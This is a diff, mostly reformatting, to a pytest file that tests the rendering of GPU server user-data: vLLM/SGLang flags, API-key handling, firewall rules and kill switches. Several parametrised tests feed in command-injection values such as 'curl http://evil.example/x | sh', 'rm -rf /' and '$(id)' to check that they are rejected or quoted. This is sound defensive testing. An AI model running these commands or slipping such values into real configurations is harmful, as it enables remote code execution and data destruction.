@@ -1,4 +1,5 @@
 """User-data per GPU family and stack: the flags that matter, and hostile plan values that cannot run."""
+
 from __future__ import annotations
 
 import copy
@@ -44,20 +45,20 @@ def test_vllm_on_mi355x_uses_rocm_image_devices_and_aiter():
     assert flag(w, "--kv-cache-dtype") == "fp8" and flag(w, "--attention-backend") == "ROCM_AITER_UNIFIED_ATTN"
     assert flag(w, "--block-size") == "64" and flag(w, "--port") == "8000"
     assert "VLLM_ROCM_USE_AITER=1" in s and "HSA_NO_SCRATCH_RECLAIM=1" in s
-    assert "--api-key" not in w and KEY not in " ".join(w)      # the key is on no command line
-    assert w[w.index("/etc/bakeoff/key.env") - 1] == "--env-file"    # vLLM reads VLLM_API_KEY from it
+    assert "--api-key" not in w and KEY not in " ".join(w)  # the key is on no command line
+    assert w[w.index("/etc/bakeoff/key.env") - 1] == "--env-file"  # vLLM reads VLLM_API_KEY from it
 
 
 def test_vllm_on_b200_uses_cuda_image_and_one_kv_flag():
     w = docker_words(render(target("aws")))
     assert "vllm/vllm-openai:v0.25.0" in w and flag(w, "--gpus") == "all" and "/dev/kfd" not in w
-    assert flag(w, "--kv-cache-dtype") == "fp8"          # catalog's B200 recipe repeats it: kept once
+    assert flag(w, "--kv-cache-dtype") == "fp8"  # catalog's B200 recipe repeats it: kept once
 
 
 def test_sglang_on_mi355x_and_b200():
     w = docker_words(render(target("vultr", stack="sglang", kv_cache_dtype="fp8")))
     assert "lmsysorg/sglang:v0.5.12-rocm700-mi35x" in w and w[w.index("--entrypoint") + 1] == "python3"
-    assert w[w.index("python3") + 2:w.index("python3") + 4] == ["-m", "sglang.launch_server"]
+    assert w[w.index("python3") + 2 : w.index("python3") + 4] == ["-m", "sglang.launch_server"]
     assert flag(w, "--tp-size") == "8" and flag(w, "--kv-cache-dtype") == "fp8_e4m3"
     assert flag(w, "--attention-backend") == "aiter" and "--enable-metrics" in w
     w = docker_words(render(target("aws", stack="sglang", quantization="fp4", kv_cache_dtype="auto")))
@@ -66,8 +67,12 @@ def test_sglang_on_mi355x_and_b200():
 
 
 def test_image_override_tensor_parallel_and_plan_args_win():
-    t = target("aws", image="registry.example.com:5000/team/vllm:nightly-2026", tensor_parallel=4,
-               engine_args=["--max-num-seqs", "512"])
+    t = target(
+        "aws",
+        image="registry.example.com:5000/team/vllm:nightly-2026",
+        tensor_parallel=4,
+        engine_args=["--max-num-seqs", "512"],
+    )
     w = docker_words(render(t))
     assert "registry.example.com:5000/team/vllm:nightly-2026" in w and flag(w, "--tensor-parallel-size") == "4"
     assert flag(w, "--max-num-seqs") == "512"
@@ -85,14 +90,17 @@ def test_kill_switch_firewall_and_valid_bash():
     assert s.count(KEY) == 1
 
 
-@pytest.mark.parametrize("field,value", [
-    ("image", "vllm/vllm-openai:v1; curl http://evil.example/x | sh"),
-    ("image", "vllm/vllm-openai:v1\ncurl evil | sh"),
-    ("image", "vllm/vllm-openai:'v1'"),
-    ("engine_args", ["--max-model-len", "8192\ncurl evil | sh"]),
-    ("env", {"X; curl evil | sh": "1"}),
-    ("env", {"OK": "1\nrm -rf /"}),
-])
+@pytest.mark.parametrize(
+    "field,value",
+    [
+        ("image", "vllm/vllm-openai:v1; curl http://evil.example/x | sh"),
+        ("image", "vllm/vllm-openai:v1\ncurl evil | sh"),
+        ("image", "vllm/vllm-openai:'v1'"),
+        ("engine_args", ["--max-model-len", "8192\ncurl evil | sh"]),
+        ("env", {"X; curl evil | sh": "1"}),
+        ("env", {"OK": "1\nrm -rf /"}),
+    ],
+)
 def test_hostile_values_are_rejected_naming_the_field(field, value):
     with pytest.raises(PlanError) as e:
         target("aws", **{field: value})
@@ -100,8 +108,13 @@ def test_hostile_values_are_rejected_naming_the_field(field, value):
 
 
 def test_hostile_provider_options_are_rejected():
-    for opts in ({"ingress_cidr": "0.0.0.0/0; curl evil | sh"}, {"regions": ["us-east-1; reboot"]},
-                 {"os_image": "ubuntu'$(id)"}, {"ami": "ami-1234; sh"}, {"inject_fault": "everything"}):
+    for opts in (
+        {"ingress_cidr": "0.0.0.0/0; curl evil | sh"},
+        {"regions": ["us-east-1; reboot"]},
+        {"os_image": "ubuntu'$(id)"},
+        {"ami": "ami-1234; sh"},
+        {"inject_fault": "everything"},
+    ):
         raw = load_plan("mi355x-vs-b200-sandbox").model_dump(mode="json")
         raw["targets"][1]["provider_options"].update(opts)
         with pytest.raises(PlanError, match=r"targets\[1\]\.provider_options"):
@@ -111,12 +124,16 @@ def test_hostile_provider_options_are_rejected():
 def test_hostile_engine_arg_reaches_the_server_as_one_word(tmp_path):
     """An argument carrying '; curl … | sh' and quotes is quoted: docker receives it verbatim, nothing runs."""
     marker = tmp_path / "pwned"
-    evil = f"--served-model-name=x'; touch {marker}; echo \"$(touch {marker})\" | sh #"
+    evil = f'--served-model-name=x\'; touch {marker}; echo "$(touch {marker})" | sh #'
     s = render(target("aws", engine_args=[evil]))
     line = next(x for x in s.splitlines() if x.startswith("docker run "))
-    out = subprocess.run(["bash", "-c", 'docker() { printf "%s\\n" "$@"; }\nBAKEOFF_API_KEY=k\n' + line],
-                         capture_output=True, text=True, check=True).stdout.splitlines()
-    assert evil in out and "k" not in out          # the key is no longer appended to the argv
+    out = subprocess.run(
+        ["bash", "-c", 'docker() { printf "%s\\n" "$@"; }\nBAKEOFF_API_KEY=k\n' + line],
+        capture_output=True,
+        text=True,
+        check=True,
+    ).stdout.splitlines()
+    assert evil in out and "k" not in out  # the key is no longer appended to the argv
     assert not marker.exists()
 
 
@@ -131,7 +148,7 @@ def test_without_ingress_cidr_ipv6_is_closed_too_and_the_firewall_fails_closed()
     assert "iptables -I INPUT -p tcp --dport 8000 ! -s 127.0.0.1 -j DROP" in s
     assert "ip6tables -I INPUT -p tcp --dport 8000 ! -s ::1 -j DROP" in s
     fw = s.index("iptables -I INPUT -p tcp --dport 8000")
-    assert s.index("exit 1", fw) < s.index("docker run")       # a failed rule stops before any container
+    assert s.index("exit 1", fw) < s.index("docker run")  # a failed rule stops before any container
 
 
 def _run_kill_switch(tmp_path, provider_target, docker_rc: int) -> list[str]:
@@ -143,13 +160,20 @@ def _run_kill_switch(tmp_path, provider_target, docker_rc: int) -> list[str]:
     section = "\n".join(lines[start:end])
     bin_dir, log = tmp_path / "bin", tmp_path / "calls.log"
     bin_dir.mkdir()
-    stubs = {"sleep": "", "shutdown": "", "poweroff": "", "mkdir": "",
-             "curl": "echo ocid1.instance.oc1.iad.node", "docker": f"exit {docker_rc}"}
+    stubs = {
+        "sleep": "",
+        "shutdown": "",
+        "poweroff": "",
+        "mkdir": "",
+        "curl": "echo ocid1.instance.oc1.iad.node",
+        "docker": f"exit {docker_rc}",
+    }
     for name, body in stubs.items():
         (bin_dir / name).write_text(f'#!/bin/bash\necho "{name} $*" >> {log}\n{body}\n')
         (bin_dir / name).chmod(0o755)
-    subprocess.run(["/bin/bash", "-c", section + "\nwait\n"], env={"PATH": f"{bin_dir}:/usr/bin:/bin"},
-                   check=True, timeout=60)
+    subprocess.run(
+        ["/bin/bash", "-c", section + "\nwait\n"], env={"PATH": f"{bin_dir}:/usr/bin:/bin"}, check=True, timeout=60
+    )
     return log.read_text().splitlines()
 
 
@@ -162,13 +186,15 @@ def test_oci_kill_switch_deletes_its_own_instance_then_powers_off(tmp_path, dock
     curl = next(c for c in calls if c.startswith("curl "))
     assert "Authorization: Bearer Oracle" in curl and "http://169.254.169.254/opc/v2/instance/id" in curl
     delete = next(i for i, c in enumerate(calls) if c.startswith("docker run") and "terminate_instance" in c)
-    assert "InstancePrincipalsSecurityTokenSigner" in calls[delete] and calls[delete].endswith("ocid1.instance.oc1.iad.node")
-    assert any(c == "sleep 7260" for c in calls[:delete])              # at the budgeted time, not before
-    assert "poweroff" in [c.strip() for c in calls[delete + 1:]]
-    assert any(c.startswith("shutdown -h +126") for c in calls)        # and a later power-off timer as a backstop
+    assert "InstancePrincipalsSecurityTokenSigner" in calls[delete] and calls[delete].endswith(
+        "ocid1.instance.oc1.iad.node"
+    )
+    assert any(c == "sleep 7260" for c in calls[:delete])  # at the budgeted time, not before
+    assert "poweroff" in [c.strip() for c in calls[delete + 1 :]]
+    assert any(c.startswith("shutdown -h +126") for c in calls)  # and a later power-off timer as a backstop
 
 
 def test_vultr_kill_switch_only_powers_off(tmp_path):
     """Vultr bills a stopped node: the independent reaper deletes it (the node holds no API key)."""
     calls = _run_kill_switch(tmp_path, target("vultr"), 0)
-    assert calls == ['shutdown -h +121 bakeoff kill switch']
+    assert calls == ["shutdown -h +121 bakeoff kill switch"]
